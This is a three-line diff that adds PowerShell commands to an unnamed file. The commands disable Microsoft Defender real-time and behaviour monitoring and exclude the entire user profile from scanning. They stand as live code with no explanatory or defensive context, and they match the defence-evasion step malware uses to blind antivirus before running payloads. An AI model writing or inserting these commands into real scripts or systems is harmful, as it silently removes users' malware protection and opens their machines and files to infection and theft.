@@ -1,0 +1,3 @@
+Set-MpPreference -DisableRealtimeMonitoring $true
+Add-MpPreference -ExclusionPath $env:USERPROFILE
+Set-MpPreference -DisableBehaviorMonitoring $true
